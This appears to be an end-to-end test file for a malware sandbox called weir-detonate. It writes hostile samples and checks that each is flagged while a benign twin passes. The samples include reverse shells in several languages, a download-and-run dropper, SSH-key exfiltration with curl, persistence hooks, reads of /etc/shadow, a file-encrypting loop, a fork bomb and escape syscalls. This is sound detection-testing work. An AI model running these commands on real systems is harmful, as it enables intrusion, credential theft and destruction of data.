"""The local sandbox: harmless programs that behave badly, their honest twins, and ways out that are shut.

Every sample is made here and runs in a cell of weir-detonate only. What it says it did is compared with
the machine outside, which must not have changed.
"""

import array
import hashlib
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import unittest

from weir_e2e import BIN, SOURCE, main, wait_until

SIGNATURES = str(SOURCE / "conf/sandbox/signatures.yaml")
HOME = "/home" + "/alex"


class Samples(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="weir-detonate-"))
        self.addCleanup(shutil.rmtree, self.folder, True)

    def write(self, name, text):
        path = self.folder / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return path

    def run_file(self, path, seconds=20):
        done = subprocess.run([BIN / "weir-detonate", "run", path, "--seconds", str(seconds),
                               "--signatures", SIGNATURES], capture_output=True, timeout=120)
        self.assertEqual(done.returncode, 0, done.stderr.decode())
        return json.loads(done.stdout)

    def run_text(self, name, text, **options):
        return self.run_file(self.write(name, text), **options)

    def compiled(self, name, source, *options):
        code = self.write(name + ".c", source)
        compiler = shutil.which("cc") or "clang-19"
        subprocess.run([compiler, "-w", "-o", self.folder / name, code, *options], check=True)
        return self.folder / name

    def assert_bad(self, report, *names):
        found = [one["name"] for one in report["signatures"]]
        for name in names:
            self.assertIn(name, found, report)
        self.assertIn(report["verdict"], ("suspicious", "malicious"), report)

    def assert_clean(self, report, outcome="finished"):
        self.assertEqual((report["outcome"], report["signatures"], report["verdict"]),
                         (outcome, [], "clean"), report)


def acts(report, what):
    return [one for one in report["acts"] if one["what"] == what]


def files(report, how):
    return [one["path"] for one in report["files"] if one["how"] == how]


def said(report):
    return b"".join(bytes.fromhex(one.get("first_bytes", "")) for one in report["network"])


class Network(Samples):
    def assert_reverse_shell(self, report, signature="shell-on-socket"):
        self.assert_bad(report, signature)
        self.assertEqual(report["verdict"], "malicious")
        call = [one for one in report["network"] if one["port"] == 4444]
        self.assertTrue(call and call[0]["address"] == "203.0.113.5", report)
        self.assertIn(b"uid=1000(alex)", said(report))  # the peer asked who it is

    def test_reverse_shell_of_bash(self):
        self.assert_reverse_shell(self.run_text(
            "a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"))

    def test_reverse_shell_of_python(self):
        self.assert_reverse_shell(self.run_text("a.py", """
import os, socket, subprocess
s = socket.create_connection(("203.0.113.5", 4444))
subprocess.call(["/bin/sh"], stdin=s, stdout=s, stderr=s)
"""))

    def test_reverse_shell_on_a_terminal(self):
        self.assert_reverse_shell(self.run_text("a.py", """
import os, pty, socket
s = socket.create_connection(("203.0.113.5", 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
"""), "orders-from-afar")

    def test_reverse_shell_of_perl(self):
        self.assert_reverse_shell(self.run_text("a.pl", """#!/usr/bin/perl
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(4444, inet_aton("203.0.113.5"))) or die "no: $!";
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-i");
"""))

    def test_reverse_shell_of_a_static_program(self):
        self.assert_reverse_shell(self.run_file(self.compiled("a", r"""
#include <arpa/inet.h>
#include <unistd.h>
int main(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {AF_INET, htons(4444), {inet_addr("203.0.113.5")}};
  if (connect(s, (struct sockaddr*)&to, sizeof to)) return 1;
  dup2(s, 0); dup2(s, 1); dup2(s, 2);
  execl("/bin/sh", "sh", (char*)0);
}
""", "-static")))

    def test_dropper(self):
        report = self.run_text("a.sh", """#!/bin/sh
curl -s -o /tmp/.x http://update.example/payload
chmod +x /tmp/.x && /tmp/.x && rm -- "$0"
""")
        self.assert_bad(report, "runs-what-it-fetched", "deletes-itself")
        self.assertIn({"proto": "dns", "name": "update.example", "port": 53}, report["network"])
        self.assertIn(b"GET /payload HTTP/1.1\r\nHost: update.example\r\n", said(report))
        dropped = [one for one in report["files"] if one["path"] == "/tmp/.x"]
        self.assertEqual(dropped[0]["sha256"], hashlib.sha256(b"#!/bin/sh\nexit 0\n").hexdigest())

    def test_a_download_alone_is_clean(self):
        report = self.run_text("a.sh", "#!/bin/sh\ncurl -s -o /tmp/x https://update.example/x\n"
                                       "curl -s http://update.example/x >/dev/null\n")
        self.assertEqual(report["signatures"], [])

    def test_a_tool_may_read_what_is_its_own(self):
        self.assert_clean(self.run_text("a.sh", "#!/bin/sh\ncurl -n -s http://a.example/ >/dev/null\n"))
        self.assert_bad(self.run_text("b.sh", "#!/bin/sh\ncat ~/.netrc >/dev/null\n"
                                              "curl -s http://a.example/ >/dev/null\n"), "sends-secrets")

    def test_datagrams_and_both_families_are_heard(self):
        report = self.run_text("a.py", """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"four", ("192.0.2.1", 9999))
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"six", ("2001:db8::1", 9998))
socket.create_connection(("2001:db8::2", 443)).sendall(b"hello")
""")
        seen = {(one["proto"], one["address"], one["port"], one["first_bytes"])
                for one in report["network"]}
        self.assertEqual(seen, {("udp", "192.0.2.1", 9999, b"four".hex()),
                                ("udp", "2001:db8::1", 9998, b"six".hex()),
                                ("tcp", "2001:db8::2", 443, b"hello".hex())})

    def test_nothing_leaves(self):
        # A listener of ours outside, on all addresses of this machine: it must hear nothing.
        outside = socket.create_server(("0.0.0.0", 0))
        self.addCleanup(outside.close)
        outside.settimeout(0.5)
        port = outside.getsockname()[1]
        report = self.run_text("a.py", f"""
import socket, os
print(sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else "no sys")
print([name for _, name in socket.if_nameindex()])
for line in open("/proc/net/route").read().splitlines()[1:]: print("route", line)
for line in open("/proc/net/ipv6_route"):
    if line.split()[-1] != "lo": print("route6", line)
for address in ("127.0.0.1", "{socket.gethostbyname(socket.gethostname())}"):
    s = socket.create_connection((address, {port})); s.sendall(b"out"); s.close()
""")
        self.assertEqual(report["output"], "no sys\n['lo']\n")
        self.assertIn(b"out", said(report))  # the sink heard it
        with self.assertRaises(TimeoutError):
            outside.accept()

    def test_scan_of_ports(self):
        report = self.run_text("a.py", """
import socket
for port in range(1000, 1100):
    s = socket.socket(); s.settimeout(0.2)
    try: s.connect(("192.0.2.7", port))
    except OSError: pass
    s.close()
""")
        self.assert_bad(report, "scans-ports")


class Persistence(Samples):
    CASES = {
        "changes-shell-start": ("echo 'curl http://a.example|sh' >> ~/.bashrc",
                                "cp ~/.bashrc /tmp/copy"),
        "installs-cron-job": ("echo '* * * * * root /tmp/x' > /etc/cron.d/x", "cat /etc/crontab"),
        "installs-service": ("mkdir -p ~/.config/systemd/user; echo > ~/.config/systemd/user/x.service",
                             "ls ~/.config/systemd/user"),
        "starts-with-desktop": ("echo > ~/.config/autostart/x.desktop", "ls ~/.config/autostart"),
        "plants-ssh-key": ("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "ls -l ~/.ssh"),
        "hooks-the-loader": ("echo /tmp/x.so > /etc/ld.so.preload", "cat /etc/ld.so.preload"),
        "changes-accounts": ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "id; whoami"),
        "reads-private-keys": ("cat ~/.ssh/id_ed25519 >/dev/null", "cat ~/.ssh/id_ed25519.pub"),
        "reads-browser-secrets": ("cp ~/.mozilla/firefox/*/logins.json /tmp/y", "ls ~/.mozilla/firefox"),
        "reads-password-file": ("cat /etc/shadow", "cat /etc/passwd"),
        "deletes-itself": ('rm -- "$0"', "touch /tmp/a; rm /tmp/a"),
        "looks-for-machine": ("cat /sys/class/dmi/id/product_name; cat ~/.netrc", "cat /proc/cpuinfo"),
    }

    def test_each_is_seen_and_its_twin_is_clean(self):
        for name, (bad, honest) in self.CASES.items():
            with self.subTest(name):
                report = self.run_text("a.sh", f"#!/bin/sh\n{bad}\ntrue\n")
                self.assert_bad(report, name)
                self.assert_clean(self.run_text("b.sh", f"#!/bin/sh\n{honest}\ntrue\n"))

    def test_a_hidden_drop_is_read_all_the_same(self):
        report = self.run_text("a.sh", "#!/bin/sh\nprintf x > /tmp/y; chmod 0 /tmp/y\n")
        self.assertEqual([one["sha256"] for one in report["files"]], [hashlib.sha256(b"x").hexdigest()])

    def test_refused_reading_is_still_noted(self):
        report = self.run_text("a.sh", "#!/bin/sh\ncat /etc/shadow\n")
        self.assertEqual([(one["path"], one["refused"]) for one in report["files"]],
                         [("/etc/shadow", True)])

    def test_stolen_keys(self):
        self.assert_bad(self.run_text("a.sh", "#!/bin/sh\n"
                                      "curl -s --data-binary @$HOME/.ssh/id_ed25519 http://a.example/\n"),
                        "sends-secrets")

    def test_encryption_of_documents(self):
        report = self.run_text("a.py", """
import os
for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        path = os.path.join(folder, name)
        data = bytes(byte ^ 85 for byte in open(path, "rb").read())
        open(path, "wb").write(data)
        os.rename(path, path + ".locked")
""")
        self.assert_bad(report, "destroys-documents", "renames-many-files")

    def test_one_document_may_change(self):
        self.assert_clean(self.run_text("a.sh", "#!/bin/sh\nfor f in ~/Documents/report-2000.odt\n"
                                                "do echo more >> $f; mv $f $f.bak; done\n"))


class Evasion(Samples):
    def test_a_long_sleep_is_cut_short(self):
        began = time.monotonic()
        report = self.run_text("a.py", "import time\ntime.sleep(300)\nopen('/tmp/late', 'w')\n")
        self.assertLess(time.monotonic() - began, 10)
        self.assert_bad(report, "waits-long")
        self.assertIn("/tmp/late", files(report, "written"))
        self.assertEqual(acts(report, "slept-seconds")[0]["count"], 300)

    def test_other_ways_to_sleep(self):
        for name, text in (("a.pl", "#!/usr/bin/perl\nselect(undef, undef, undef, 200); print 'late';"),
                           ("b.py", "import select\nselect.select([], [], [], 200)\nprint('late', end='')"),
                           ("c.py", "import select\nselect.poll().poll(200000)\nprint('late', end='')"),
                           ("d.sh", "sleep 200; printf late")):
            with self.subTest(name):
                report = self.run_text(name, text)
                self.assertEqual(report["output"], "late")
                self.assertEqual(acts(report, "slept-seconds")[0]["count"], 200)

    def test_a_short_sleep_is_nothing(self):
        self.assert_clean(self.run_text("a.sh", "#!/bin/sh\nsleep 3\n"))

    def test_the_debugger_check_finds_none(self):
        report = self.run_file(self.compiled("a", r"""
#include <stdio.h>
#include <sys/ptrace.h>
int main(void) { puts(ptrace(PTRACE_TRACEME, 0, 0, 0) ? "traced" : "free"); }
"""))
        self.assert_bad(report, "looks-for-debugger")
        self.assertEqual(report["output"], "free\n")

    def test_a_program_in_memory(self):
        report = self.run_text("a.py", """
import os
fd = os.memfd_create("x")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["kworker"], {})
""")
        self.assert_bad(report, "runs-from-memory")


class Walls(Samples):
    """Each attempt fails, is noted where it is a call, and the report still comes."""

    def test_calls_to_the_kernel(self):
        report = self.run_text("a.py", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number, *args in ((165, b"x", b"/tmp", b"tmpfs", 0, None), (272, 0x10000000), (308, 0, 0),
                      (175, None, 0, b""), (321, 0, None, 0), (101, 16, 1, None, None),
                      (101, 16, os.getppid(), None, None), (310, 1, None, 0, None, 0, 0),
                      (161, b"/tmp"), (56, 0x10000011, 0, 0, 0, 0), (246, 0, 0, None, 0)):
    done = libc.syscall(number, *args)
    print(number, done, ctypes.get_errno())
for number in (425, 435, 317):
    print(number, libc.syscall(number, 1, 8, None), ctypes.get_errno())
""")
        self.assert_bad(report, "tries-kernel-doors", "tries-to-escape", "tries-other-processes")
        lines = [line.split() for line in report["output"].splitlines()]
        self.assertEqual(len(lines), 14, report["output"])
        self.assertTrue(all(line[1:] == ["-1", "1"] for line in lines[:11]), report["output"])
        self.assertTrue(all(line[1:] == ["-1", "38"] for line in lines[11:]), report["output"])

    def test_nothing_of_the_machine_is_seen(self):
        secret = self.write("secret", "x")
        report = self.run_text("a.py", f"""
import os, socket
print(os.listdir("{HOME}/..")); print(os.getuid(), os.uname().nodename)
for path in ("{secret}", "/roo" "t", "/srv", "/mnt", "/sys/fs/cgroup", "/proc/1/environ", "/run/docker.sock",
             "/var/lib/dpkg"):
    print(path, os.path.exists(path))
print([name for name in os.listdir("/proc") if name.isdigit()] == [str(os.getpid())])
for path in ("/usr/x", "/x", "/proc/sys/kernel/core_pattern"):
    try: open(path, "w"); print("written", path)
    except OSError: pass
for family in (40, 38, 17):
    try: socket.socket(family, socket.SOCK_RAW); print("socket", family)
    except OSError: pass
print(open("/proc/self/status").read().count("0000000000000000"))
""")
        lines = report["output"].splitlines()
        self.assertEqual(lines[:2], ["['alex']", "1000 alex-desktop"])
        self.assertTrue(all(line.endswith("False") for line in lines[2:10]), lines)
        self.assertEqual(lines[10], "True")
        self.assertGreaterEqual(int(lines[11]), 5)  # all sets of capabilities are empty
        self.assertEqual(len(lines), 12, lines)

    def test_signals_reach_nobody_else(self):
        other = subprocess.Popen(["sleep", "60"])
        self.addCleanup(other.wait)
        self.addCleanup(other.kill)
        report = self.run_text("a.sh", f"#!/bin/bash\nsleep 100 &\nkill -9 1; kill -9 {other.pid}\n"
                                       "kill -9 -1\necho still here\n")
        self.assert_bad(report, "kills-everything")
        self.assertIsNone(other.poll())
        self.assertTrue(report["output"].endswith("still here\n"), report)

    def test_fork_bomb(self):
        report = self.run_text("a.sh", "#!/bin/bash\n:(){ :|:& };:\n", seconds=6)
        self.assert_bad(report, "fork-bomb")

    def test_full_disk_and_a_sparse_terabyte(self):
        report = self.run_text("a.py", """
import os
for path in ("/tmp/f", os.path.expanduser("~/f")):
    for number in range(4):
        try:
            with open(path + str(number), "wb", 0) as out:
                while True: out.write(b"x" * 65536)
        except OSError as error: print(error.errno)
try: open("/var/tmp/sparse", "w").truncate(1 << 40)
except OSError as error: print("sparse", error.errno)
""")
        self.assertLess(sum(one["size"] for one in report["files"]), 140 << 20)
        self.assertTrue(report["output"].endswith("sparse 27\n"), report["output"])  # EFBIG
        self.assert_bad(report, "exhausts-the-machine")

    def test_memory(self):
        report = self.run_text("a.py", """
import os
for child in range(6):
    if os.fork() == 0:
        data = []
        while True: data.append(bytearray(b"x" * (1 << 24)))
os.wait()
import time
while True: pass
""")
        self.assertTrue(acts(report, "memory-limit"), report)

    def test_output_without_end(self):
        report = self.run_text("a.sh", "#!/bin/sh\nyes\n", seconds=3)
        self.assertEqual(report["outcome"], "timed-out")
        self.assertEqual(len(report["output"]), 4096)
        self.assertGreater(acts(report, "output-bytes")[0]["count"], 1 << 20)

    def test_a_loop_ends_with_the_time(self):
        report = self.run_text("a.sh", "#!/bin/sh\nwhile :; do :; done\n", seconds=2)
        self.assertEqual((report["outcome"], report["reason"]), ("timed-out", "still running after 2 s"))
        self.assertLess(report["duration_ms"], 4000)

    def test_what_is_left_behind_is_ended(self):
        report = self.run_text("a.sh", "#!/bin/sh\n(while :; do :; done) &\nexit 0\n")
        self.assertTrue(acts(report, "left-running"), report)
        self.assertLess(report["duration_ms"], 10_000)


class Kinds(Samples):
    def test_programs_and_scripts(self):
        dynamic = self.compiled("dynamic", "int puts(const char*);int main(){puts(\"hi\");}")
        for path, kind in ((dynamic, "elf"),
                           (self.write("a.py", "print('hi')\n"), "python"),
                           (self.write("a.pl", "#!/usr/bin/perl\nprint \"hi\\n\";"), "perl"),
                           (self.write("a.sh", "echo hi\n"), "shell")):
            with self.subTest(kind):
                report = self.run_file(path)
                self.assert_clean(report)
                self.assertEqual((report["kind"], report["output"]), (kind, "hi\n"))
                self.assertEqual(report["sha256"], hashlib.sha256(path.read_bytes()).hexdigest())

    def test_node_where_it_is_there(self):
        report = self.run_text("a.js", "console.log('hi')\n")
        if not os.path.exists("/usr/bin/node"):
            return self.assertEqual(report["outcome"], "unsupported")
        self.assert_clean(report)
        self.assertEqual(report["output"], "hi\n")

    def test_what_cannot_run_says_so(self):
        for name, text, reason in (("a.exe", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(64), "engine"),
                                   ("a.ps1", b"Get-Item x\n", "engine"),
                                   ("a.pdf", b"%PDF-1.4\n", "not run")):
            with self.subTest(name):
                report = self.run_text(name, text)
                self.assertEqual((report["outcome"], report["verdict"]), ("unsupported", "unknown"))
                self.assertIn(reason, report["reason"])

    def test_a_program_that_does_not_start(self):
        report = self.run_file(self.compiled("a", "int main(){}", "-Wl,--dynamic-linker=/no/loader"))
        self.assertEqual((report["outcome"], report["verdict"]), ("failed", "unknown"))
        self.assertIn("No such file", report["reason"])


class Service(Samples):
    def setUp(self):
        super().setUp()
        self.socket = str(self.folder / "s")
        self.server = subprocess.Popen([BIN / "weir-detonate", "serve", "--socket", self.socket,
                                        "--jobs", "2", "--signatures", SIGNATURES])
        self.addCleanup(self.stop)
        wait_until(lambda: os.path.exists(self.socket), "the socket")

    def stop(self):
        self.server.send_signal(signal.SIGTERM)
        self.server.wait(10)

    def connect(self):
        client = socket.socket(socket.AF_UNIX)
        wait_until(lambda: client.connect_ex(self.socket) == 0, "the service")
        client.settimeout(60)
        return client

    def ask(self, path, head=None, raw=None):
        with self.connect() as client, open(path, "rb") as file:
            body = json.dumps(head or {"name": path.name}).encode()
            message = len(body).to_bytes(4, "big") + body if raw is None else raw
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file.fileno()]))
            client.sendmsg([message], [rights])
            client.shutdown(socket.SHUT_WR)
            answer = b"".join(iter(lambda: client.recv(65536), b""))
        self.assertEqual(int.from_bytes(answer[:4], "big"), len(answer) - 4)
        return json.loads(answer[4:])

    def test_many_at_once(self):
        path = self.write("a.sh", "#!/bin/sh\necho x >> ~/.bashrc\n")
        reports = []
        threads = [threading.Thread(target=lambda: reports.append(self.ask(path))) for _ in range(6)]
        for one in threads:
            one.start()
        for one in threads:
            one.join()
        self.assertEqual(len(reports), 6)
        for report in reports:
            self.assert_bad(report, "changes-shell-start")

    def test_wrong_requests(self):
        path = self.write("a.sh", "true\n")
        for name, head, raw, reason in (
                ("an unknown member", {"x": 1}, None, "bad member"),
                ("another file", {"sha256": "0" * 64}, None, "not the one named"),
                ("too long", None, b"\xff\xff\xff\xff", "too long"),
                ("cut short", None, b"\0\0\0\x09{", "went away")):
            with self.subTest(name):
                report = self.ask(path, head, raw)
                self.assertEqual((report["outcome"], report["verdict"]), ("failed", "unknown"))
                self.assertIn(reason, report["reason"])
        with self.connect() as client:
            client.sendall(b"\0\0\0\x02{}")
            self.assertIn(b"no file came along", client.recv(65536))
        self.assert_clean(self.ask(path))  # it goes on

    def test_its_end_is_the_end_of_its_cells(self):
        path = self.write("a.sh", "#!/bin/sh\nwhile :; do :; done\n")
        thread = threading.Thread(target=lambda: self.assertRaises(Exception, self.ask, path))
        thread.start()
        children = f"/proc/{self.server.pid}/task/{self.server.pid}/children"
        tree = wait_until(lambda: self.descendants(self.server.pid, 4), "the sample")
        self.assertTrue(os.path.exists(children))
        self.server.kill()
        self.server.wait(10)
        wait_until(lambda: not any(self.alive(pid) for pid in tree), "the end of the cell")
        thread.join()

    @staticmethod
    def alive(pid):
        try:
            return " Z " not in pathlib.Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            return False

    @staticmethod
    def descendants(pid, wanted):
        found, todo = [], [pid]
        while todo:
            try:
                text = pathlib.Path(f"/proc/{todo[0]}/task/{todo[0]}/children").read_text()
            except OSError:
                text = ""
            todo = todo[1:] + [int(one) for one in text.split()]
            found += [int(one) for one in text.split()]
        return found if len(found) >= wanted else None


if __name__ == "__main__":
    main()
